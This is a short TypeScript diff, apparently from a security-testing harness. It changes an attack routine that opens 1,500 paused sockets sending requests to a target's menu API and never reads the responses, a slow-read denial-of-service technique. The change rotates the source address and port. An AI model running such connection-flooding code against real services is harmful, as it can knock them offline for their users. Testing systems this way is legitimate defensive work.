@@ -9,6 +9,7 @@ import {
   oneSlash64,
   poolOf,
   THEIR_ADDRESS,
+  theirNextPort,
   type Ask,
   type Attack,
   type Target,
@@ -73,7 +74,7 @@ async function unread({ origin, hoarder }: Target, ms: number): Promise<void> {
   const { port, hostname } = new URL(origin);
   const request = `GET /api/customers/outlets/${hoarder.outlet}/menu HTTP/1.1\r\nHost: x\r\n\r\n`;
   const open = Array.from({ length: 1_500 }, () => {
-    const socket = connect({ port: Number(port), host: hostname, localAddress: THEIR_ADDRESS });
+    const socket = connect({ port: Number(port), host: hostname, ...theirNextPort() });
     socket.on('error', () => undefined);
     socket.pause();
     socket.write(request);
